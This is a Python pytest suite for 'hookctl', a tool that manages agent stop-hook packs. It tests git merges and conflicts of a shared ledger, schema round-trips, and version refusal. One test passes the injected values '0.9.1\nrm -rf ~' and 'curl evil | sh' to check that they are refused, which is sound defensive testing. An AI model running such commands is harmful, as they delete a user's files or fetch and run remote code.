"""The committed ledger: what stands in it, and merges of it; a team and it: stories/record-that-a-team-shares.txt."""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from hookctl import __version__
from hookctl.errors import HookctlError
from hookctl.model import Claim, Entry, PackRecord, Record
from hookctl.ownership import store
from hookctl.ownership.execute import read_journal
from hookctl.system import folders
from tests.conftest import Hookctl, Outcome, put
from tests.trees import tree

INSTALL = ("install", "--host", "claude", "--scope", "project")
UNINSTALL = ("uninstall", "--scope", "project")
THEIRS = '{\n    "model": "m",   "hooks": {"Stop": []}\n}'
LIMIT, CAP = "MAX_STOP_BLOCKS", "CLAUDE_CODE_STOP_HOOK_BLOCK_CAP"


@pytest.fixture(autouse=True)
def own_git(fixed_python: None, monkeypatch: pytest.MonkeyPatch) -> None:
    """No configuration of this machine's git."""
    for name in ("GIT_CONFIG_GLOBAL", "GIT_CONFIG_SYSTEM"):
        monkeypatch.setenv(name, os.devnull)
    for role in ("AUTHOR", "COMMITTER"):
        monkeypatch.setenv(f"GIT_{role}_NAME", "Somebody")
        monkeypatch.setenv(f"GIT_{role}_EMAIL", "somebody@example.org")


class Team:
    """Machines with a clone of one repository each."""

    def __init__(self, root: Path, hookctl: Hookctl, monkeypatch: pytest.MonkeyPatch) -> None:
        self.root, self.run, self.patch = root, hookctl, monkeypatch

    def clone(self, name: str) -> Path:
        return self.root / name / "app"

    def at(self, name: str) -> Path:
        """Sit down at a machine; its clone."""
        self.patch.setenv("HOOKCTL_STATE_DIR", str(self.root / name / "state"))
        self.patch.setenv("HOOKCTL_DATA_DIR", str(self.root / name / "data"))
        self.patch.chdir(self.clone(name))
        return self.clone(name)

    def hookctl(self, name: str, *arguments: str) -> Outcome:
        self.at(name)
        return self.run(*arguments)

    def git(self, name: str, *arguments: str, code: int = 0) -> str:
        done = subprocess.run(["git", *arguments], cwd=self.clone(name), capture_output=True, text=True, timeout=60)
        assert done.returncode == code, done
        return done.stdout

    def commit(self, name: str) -> None:
        self.git(name, "add", "-A")
        self.git(name, "commit", "-q", "--allow-empty", "-m", "change")

    def pull(self, name: str, other: str, code: int = 0) -> None:
        self.git(name, "pull", "-q", "--no-rebase", "--no-edit", str(self.clone(other)), "main", code=code)


@pytest.fixture
def team(isolated: Path, hookctl: Hookctl, monkeypatch: pytest.MonkeyPatch) -> Team:
    """Ann, who has installed the guard in her clone and committed it, and Bob, who has cloned it from her."""
    found = Team(isolated, hookctl, monkeypatch)
    put(found.clone("ann") / ".claude" / "settings.json", THEIRS)
    found.git("ann", "init", "-q", "-b", "main")
    found.commit("ann")
    assert found.hookctl("ann", *INSTALL).code == 0
    found.commit("ann")
    (isolated / "bob").mkdir()
    subprocess.run(["git", "clone", "-q", str(found.clone("ann")), str(found.clone("bob"))], check=True, timeout=60)
    return found


def settings(team: Team, name: str) -> Path:
    return team.clone(name) / ".claude" / "settings.json"


def ledger(team: Team, name: str) -> Path:
    return team.clone(name) / ".hookctl" / "ledger.json"


def hook(team: Team, name: str) -> Path:
    return team.clone(name) / ".hookctl" / "hook.py"


def value(path: Path) -> Any:
    return json.loads(path.read_bytes())


def bell(isolated: Path, env: str = "", name: str = "bell") -> str:
    """A pack with a program of its own."""
    folder = isolated / name
    put(folder / "ring.sh", "#!/bin/sh\necho ring\n").chmod(0o700)
    hooks = '[[hooks]]\nevent = "stop"\ncommand = "{files}/ring.sh"\n'
    head = f'[pack]\nname = "{name}"\nversion = "1"\nprotocol = "host"\n[files]\ninclude = ["ring.sh"]\n'
    put(folder / "pack.toml", f"{head}{env}{hooks}")
    return str(folder)


def test_packs_that_two_branches_add_merge_where_a_line_lies_between_them(isolated: Path, team: Team) -> None:
    """Here the guard's: of its name and its hook, every list has a line between those of bell and of whistle."""
    packs = {"ann": bell(isolated), "bob": bell(isolated, name="whistle")}
    for name, pack in packs.items():
        assert team.hookctl(name, "install", pack, *INSTALL[1:]).code == 0
        team.git(name, "checkout", "-q", "HEAD", "--", ".claude/settings.json")  # which merges as any text
        team.commit(name)
    team.pull("bob", "ann")
    page = value(ledger(team, "bob"))["files"][".claude/settings.json"]
    assert list(page["packs"]) == ["bell", "guard", "whistle", ""]
    assert [entry["id"] for entry in page["entries"] if "id" in entry] == ["bell/stop", "guard/stop", "whistle/stop"]
    for pack in packs.values():
        assert team.hookctl("bob", "install", pack, *INSTALL[1:], "--force").code == 0
        assert team.hookctl("bob", "install", pack, *INSTALL[1:]).out == "nothing to do\n"


def test_where_both_branches_add_at_the_same_line_the_conflict_has_whole_lines_only(isolated: Path, team: Team) -> None:
    chime = bell(isolated, name="chime")
    put(isolated / "chime" / "ring.sh", "#!/bin/sh\necho chime\n")
    for name, pack in {"ann": bell(isolated), "bob": chime}.items():
        assert team.hookctl(name, "install", pack, *INSTALL[1:]).code == 0
        team.git(name, "checkout", "-q", "HEAD", "--", ".claude/settings.json")
        team.commit(name)
    team.pull("bob", "ann", code=1)
    lines = ledger(team, "bob").read_text().splitlines(keepends=True)
    both = "".join(line for line in lines if not line.startswith(("<<<<<<<", "=======", ">>>>>>>")))
    ledger(team, "bob").write_text(both)  # who keeps both sides has a good ledger
    assert sorted(value(ledger(team, "bob"))["files"][".claude/settings.json"]["packs"]) == [
        "", "bell", "chime", "guard"
    ]  # fmt: skip
    assert team.hookctl("bob", "status").code == 0


def without_the_limit(page: Any) -> str:
    entries = page["files"][".claude/settings.json"]["entries"]
    entries[:] = [entry for entry in entries if entry == "end" or entry["path"] != ["env", LIMIT]]
    return json.dumps(page)


def without_the_hook(page: Any) -> str:
    entries = page["files"][".claude/settings.json"]["entries"]
    entries[:] = [entry for entry in entries if entry == "end" or entry["kind"] != "element"]
    return json.dumps(page)


@pytest.mark.parametrize(
    ("edit", "left"),
    [
        (lambda page: json.dumps(page, indent=4), {}),
        (without_the_limit, {"env": {LIMIT: "5"}}),
        (without_the_hook, {}),
        (lambda page: json.dumps({**page, "files": {}}), {"env": {LIMIT: "5", CAP: "8"}}),
    ],
    ids=["reindented", "without the limit", "without the hook", "without pages"],
)
def test_what_a_hand_takes_out_of_the_ledger_becomes_the_operators_or_is_found_again(
    team: Team, edit: Callable[[Any], str], left: dict[str, Any]
) -> None:
    put(ledger(team, "bob"), edit(value(ledger(team, "bob"))))
    assert team.hookctl("bob", *INSTALL).code == 0
    assert team.hookctl("bob", *INSTALL).out == "nothing to do\n"
    assert team.hookctl("bob", *UNINSTALL).code == 0
    assert value(settings(team, "bob")) == {**json.loads(THEIRS), **left}
    assert not (team.clone("bob") / ".hookctl").exists()


# A project after a merge: a record, settings or a configuration in conflict, and what an older hookctl does.
# What a branch does in its clone, by what a team lead would say of it.
CHANGES = {
    "a limit of 9": ("guard", "--set", "max_stop_blocks=9"),
    "a limit of 7": ("guard", "--set", "max_stop_blocks=7"),
    "no claims": ("guard", "--set", "claim=false"),
    "two hours": ("guard", "--set", "work_hours=2"),
    "three hours": ("guard", "--set", "work_hours=3"),
    "another host": ("guard", "--set", "max_stop_blocks=7", "--host", "gemini"),
    "bell": ("bell",),
    "chime": ("chime",),
    "another model": ("guard",),
}
SETTINGS, LEDGER, CONFIG = ".claude/settings.json", ".hookctl/ledger.json", ".hookctl/guard/claude.json"


def change(team: Team, name: str, wanted: str) -> None:
    pack, *options = CHANGES[wanted]
    source = pack if pack == "guard" else bell(team.clone(name), name=pack)
    assert team.hookctl(name, "install", source, *options, *INSTALL[1:]).code == 0
    team.commit(name)


def is_blocked(team: Team) -> bool:
    """Whether the guard that is registered in Bob's clone answers a stop with work remaining in a run."""
    (command,) = re.findall(r'"(: hookctl=guard/stop; (?:[^"\\]|\\.)*)"', settings(team, "bob").read_text()) or [""]
    if not command:
        return False
    assert team.hookctl("bob", "run", "start", "--remaining", "3").code == 0
    payload = {"session_id": "s", "hook_event_name": "Stop", "cwd": str(team.clone("bob")), "stop_hook_active": False}
    done = subprocess.run(
        ["sh", "-c", json.loads(f'"{command}"')], input=json.dumps(payload), capture_output=True, text=True,
        env={**os.environ, "CLAUDE_PROJECT_DIR": str(team.clone("bob"))}, timeout=60,
    )  # fmt: skip
    assert (done.returncode, done.stderr) == (0, "")
    shutil.rmtree(team.clone("bob") / ".hookctl" / "run")
    return '"block"' in done.stdout


def recorded_packs(team: Team) -> dict[str, Any]:
    packs: dict[str, Any] = value(ledger(team, "bob"))["files"][".claude/settings.json"]["packs"]
    return {name: pack for name, pack in packs.items() if name}


# Two branches that both changed what is installed.
@pytest.mark.parametrize(
    ("mine", "yours", "conflicted", "start"),
    [
        ("a limit of 9", "a limit of 7", {SETTINGS, LEDGER}, "merge"),
        ("a limit of 9", "a limit of 7", {SETTINGS, LEDGER}, "rebase"),
        ("a limit of 9", "another host", {SETTINGS, LEDGER}, "merge"),
        ("chime", "bell", {SETTINGS, LEDGER}, "rebase"),
        ("two hours", "three hours", {CONFIG, LEDGER}, "merge"),
        ("no claims", "a limit of 7", {LEDGER}, "rebase"),
        ("another model", "bell", {SETTINGS}, "merge"),
    ],
)
def test_a_conflict_is_resolved_by_what_check_and_status_print(
    team: Team, mine: str, yours: str, conflicted: set[str], start: str
) -> None:
    for name, wanted in (("ann", yours), ("bob", mine)):
        notes = put(team.clone(name) / ".claude" / "agents" / "a.md", "first\n2\n3\n4\n5\nlast\n")
        if name == "ann":
            team.commit("ann")
            team.pull("bob", "ann")
        word = {"ann": "last", "bob": "first"}[name]
        notes.write_text(notes.read_text().replace(word, f"{word} of {name}"))
        if "another model" in (mine, yours):
            settings(team, name).write_text(settings(team, name).read_text().replace('"m"', f'"{name}"'))
        change(team, name, wanted)
    bob = team.clone("bob")
    how = "--no-rebase" if start == "merge" else "--rebase"
    team.git("bob", "pull", "-q", how, "--no-edit", str(team.clone("ann")), "main", code=1)
    assert {*team.git("bob", "diff", "--name-only", "--diff-filter=U").split()} == conflicted
    before = tree(bob)
    assert team.hookctl("bob", "doctor", "--fix", "--host", "claude").code == 1
    assert tree(bob) == before, "no repair touches a conflict"

    found = team.hookctl("bob", "check", "--json", "--require", "guard").data["findings"]
    doctors = team.hookctl("bob", "doctor", "--json", "--host", "claude", "--scope", "project").data["findings"]
    named = {str(bob / name) for name in conflicted - {CONFIG}}
    assert {finding["path"] for finding in found if finding["level"] == "error"} == named
    assert named <= {finding["path"] for finding in doctors}
    (fix,) = {finding["fix"] for finding in (*found, *doctors) if "merge-conflict marks" in finding["message"]}
    command = shlex.split(fix.split("`")[1])
    names = [SETTINGS, CONFIG, LEDGER]
    if yours == "another host":
        names = sorted([*names, ".gemini/settings.json", CONFIG.replace("claude", "gemini")])
    assert command == ["git", "checkout", "--no-overlay", "HEAD", "--", *names]
    team.git("bob", *command[1:])

    other = yours if start == "merge" else mine
    team.git("bob", "worktree", "add", "-q", str(bob.parent / "other"), f"{start.upper()}_HEAD")
    printed = team.hookctl("bob", "status", "--verbose", "--project", "../other").out
    team.git("bob", "worktree", "remove", str(bob.parent / "other"))
    lines = re.findall(r"^ *hookctl (install .*)$", printed, re.MULTILINE)
    packs = [pack for pack in ("bell", "chime") if pack in (mine, yours)]
    assert {shlex.split(line)[1] for line in lines} >= {f"./{pack}/pack.toml" for pack in packs if pack == other}
    for line in lines:
        assert team.hookctl("bob", *shlex.split(line)).code == 0
    checked = team.hookctl("bob", "check", "--require", "guard")
    assert checked.code == 0 and "complete" in checked.out, checked
    after = tree(bob)
    changed = {name for name in before | after if before.get(name, "")[-1:] != after.get(name, "")[-1:]}
    assert {name for name in changed if not name.startswith(".git/")} <= {*names}
    assert " ".join(CHANGES[other][1:3]) in team.hookctl("bob", "status", "--verbose").out
    assert (bob / ".claude" / "agents" / "a.md").read_text() == "first of bob\n2\n3\n4\n5\nlast of ann\n"
    team.commit("bob")
    assert {*recorded_packs(team)} == {"guard", *packs}
    assert is_blocked(team)
    for pack in sorted(recorded_packs(team), reverse=True):
        assert team.hookctl("bob", "uninstall", pack, "--scope", "project").code == 0
    left = json.loads(settings(team, "bob").read_bytes())
    assert {**left, "model": "m"} == json.loads(THEIRS)
    assert not [*(bob / ".hookctl").rglob("*")]


@pytest.mark.parametrize(
    "options",
    [
        "",
        "--mode keepalive --rules --allow-run --set claim=false --guidance --nudge 'a,b c'",
        "--preset openhands --set MAX_STOP_BLOCKS=3",
        "--preset openhands --mode off --dispatch Bash:3/60 --dispatch Task",
        "--preset rockbot --dispatch '*'",
    ],
)
def test_status_prints_the_lines_that_install_everything_again(team: Team, options: str) -> None:
    hosts = ("--host", "claude", "--host", "codex", "--scope", "project")
    assert team.hookctl("ann", "uninstall", *hosts).code == 0
    team.hookctl("ann", "install", *hosts, *shlex.split(options))  # 1 where a host has no --allow-run
    assert team.hookctl("ann", "install", bell(team.clone("ann") / "my hooks"), *hosts).code == 0
    team.commit("ann")
    lines = re.findall(r"^ *hookctl (install .*)$", team.hookctl("ann", "status", "--verbose").out, re.MULTILINE)
    assert len(lines) == 4
    for pack in ("guard", "bell"):
        assert team.hookctl("ann", "uninstall", pack, "--scope", "project").code == 0
    assert not ledger(team, "ann").exists()
    for line in sorted(lines, key=lambda line: "bell" in line):
        assert team.hookctl("ann", *shlex.split(line)).code == 0
    before = {path: json.loads(team.git("ann", "show", f"HEAD:{path}")) for path in (SETTINGS, CONFIG, LEDGER)}
    after = {path: value(team.clone("ann") / path) for path in before}
    # Only Claude Code can allow it, so only there it is said again.
    before[LEDGER]["files"][".codex/hooks.json"]["packs"]["guard"]["settings"].pop("allow_run", None)
    assert after == before


def mark(path: Path) -> None:
    path.write_text(f"<<<<<<< HEAD\n{path.read_text()}=======\n>>>>>>> theirs\n")


@pytest.mark.parametrize("names", [[SETTINGS], [CONFIG], [LEDGER], [SETTINGS, LEDGER]], ids=" and ".join)
def test_a_conflict_in_any_of_the_files_that_go_together_has_one_fix(team: Team, names: list[str]) -> None:
    for name in names:
        mark(team.clone("bob") / name)
    bob = str(team.clone("bob"))
    for at, command, where in (
        ("bob", ["check"], ""),
        ("bob", ["doctor", "--host", "claude"], ""),
        ("ann", ["check", "--project", bob], f" -C {bob}"),
    ):
        found = team.hookctl(at, *command, "--json").data["findings"]
        (fix,) = {one["fix"] for one in found if "merge-conflict marks" in one["message"]}
        assert fix.startswith(f"`git{where} checkout --no-overlay HEAD -- {SETTINGS} {CONFIG} {LEDGER}` takes")
        assert fix.endswith("prints it.")


def test_a_conflict_in_settings_without_anything_of_hookctls_is_a_persons(team: Team) -> None:
    """As in a file that no side's record names."""
    put(team.clone("bob") / ".gemini" / "settings.json", "<<<<<<< HEAD\n{}\n=======\n>>>>>>> theirs\n")
    found = team.hookctl("bob", "doctor", "--json", "--host", "gemini").data["findings"]
    fixes = [one["fix"] for one in found if "merge-conflict marks" in one["message"]]
    assert fixes == ["Resolve the conflict, then run the command again."]


def test_no_earlier_text_is_offered_for_settings_in_a_conflict(team: Team) -> None:
    for name, wanted in (("ann", "a limit of 9"), ("bob", "a limit of 7")):
        change(team, name, wanted)
    subprocess.run(
        ["git", "pull", "-q", "--no-rebase", "--no-edit", str(team.clone("ann")), "main"],
        cwd=team.clone("bob"), capture_output=True, timeout=60,
    )  # fmt: skip
    found = team.hookctl("bob", "doctor", "--host", "claude")
    assert "the file has merge-conflict marks" in found.out and "hookctl restore" not in found.out


# The ledger: every shape comes back as it was, and bytes that are none are refused without a traceback.
SCHEMA = json.loads((Path(__file__).parents[1] / "schemas" / "ledger.schema.json").read_text())
HANDLER = {"type": "command", "command": ": hookctl=guard/stop; exit 0", "timeout": 10}
ENTRIES = (
    Entry(("env", "A"), "leaf", "owned", None, "5", {"guard": Claim("5")}),
    Entry(("env", "B"), "leaf", "owned", "1e3", "é\u2028", {"p": Claim("5", "max"), "q": Claim("7", "max")}),
    Entry(("env", "C"), "leaf", "owned", "", None, {"guard": Claim(None)}),
    Entry(("a", 0, "b"), "leaf", "adopted", None, {"x": [1, 2.5, True]}, {"x": Claim(1)}),
    Entry(("hooks", "Stop"), "element", "owned", None, HANDLER, {"guard": Claim(HANDLER)}, "guard/stop"),
    Entry(("hooks",), "container"),
    Entry(("hooks", "Stop"), "container"),
)
FILES, FORMER = ("claude.json", "c"), ("claude-user/hook.py",)
SETTINGS_OF_LEDGER = {"mode": "off", "knobs": {"latch": False}}
PACK = PackRecord("1.0", SETTINGS_OF_LEDGER, "/data/guard", FILES, FORMER, "/p/pack.toml", "a" * 64)
RECORDS = [
    Record("claude", "user", "json"),
    Record("claude", "user", "json", True, ("/a/b", "/a"), {"guard": PACK, "x": PackRecord("", {})}, "", "f" * 64),
    Record("claude", "user", "json", False, (), {"guard": PACK}, "0" * 64, "1" * 64, ENTRIES),
]


def own(ledger: Path) -> folders.Folders:
    """Folders of hookctl's own with this ledger."""
    return folders.Folders(str(ledger.parent), str(ledger.parent), {}, str(ledger.parent))


@pytest.mark.parametrize("record", RECORDS)
def test_every_record_comes_back_as_it_was(record: Record, tmp_path: Path) -> None:
    data = store.dump({"/x": record})
    jsonschema.validate(json.loads(data), SCHEMA)
    assert store.load(own(put(tmp_path / "ledger.json", data))).files == {"/x": record}


@pytest.mark.parametrize("needs", [None, 1, "", "0.9.1\nrm -rf ~", "curl evil | sh", ["0.9.1"]])
@pytest.mark.parametrize("name", ["ledger", "journal"])
def test_a_newer_record_that_names_no_version_is_refused_without_one(isolated: Path, name: str, needs: Any) -> None:
    here = folders.here()
    put(Path(here.state) / f"{name}.json", json.dumps({f"{name}_version": 9, "needs": needs}))
    with pytest.raises(HookctlError) as caught:
        store.load(here).files if name == "ledger" else read_journal(here)
    assert (caught.value.code, caught.value.message) == (
        "ledger_newer", "a later hookctl is needed to read this record"
    )  # fmt: skip


def test_an_older_hookctl_does_not_replace_the_programs_of_a_newer_one(team: Team) -> None:
    """Ann's guard is of 0.5.0, and Bob, who has an older hookctl, has pulled that."""
    for path, name in ((hook(team, "ann"), "VERSION = "), (ledger(team, "ann"), '"version": ')):
        old, new = f'{name}"{__version__}"', f'{name}"0.5.0"'
        assert old in path.read_text()
        path.write_text(path.read_text().replace(old, new))
    team.commit("ann")
    team.pull("bob", "ann")
    before = tree(team.clone("bob") / ".hookctl")
    for command in (["upgrade", "--project", "."], [*INSTALL]):
        refused = team.hookctl("bob", *command)
        assert refused.code == 1 and "Upgrade hookctl to 0.5.0 or later" in refused.err, refused
        assert "is up to date" not in refused.out
    assert "Upgrade hookctl to 0.5.0 or later" in team.hookctl("bob", "check").out
    assert team.hookctl("bob", "doctor", "--fix").code == 0
    assert tree(team.clone("bob") / ".hookctl") == before
    assert team.hookctl("bob", *INSTALL, "--force").code == 0
    assert recorded_packs(team)["guard"]["version"] == __version__ and is_blocked(team)
